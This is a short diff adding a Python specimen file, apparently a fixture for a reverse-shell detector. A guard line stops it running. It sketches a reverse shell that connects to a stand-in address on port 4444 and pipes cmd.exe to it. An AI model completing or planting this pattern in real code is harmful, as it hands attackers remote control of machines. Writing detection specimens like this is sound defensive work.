@@ -1,0 +1,8 @@
+raise SystemExit("specimen: not to be run")
+import socket
+import subprocess
+
+def begin():
+    s = socket.create_connection(("192.0.2.1", 4444))
+    p = subprocess.Popen(["cmd.exe"], stdin=subprocess.PIPE, stdout=subprocess.PIPE)  # match: reverse-shell
+    s.sendall(p.stdout.read(1))
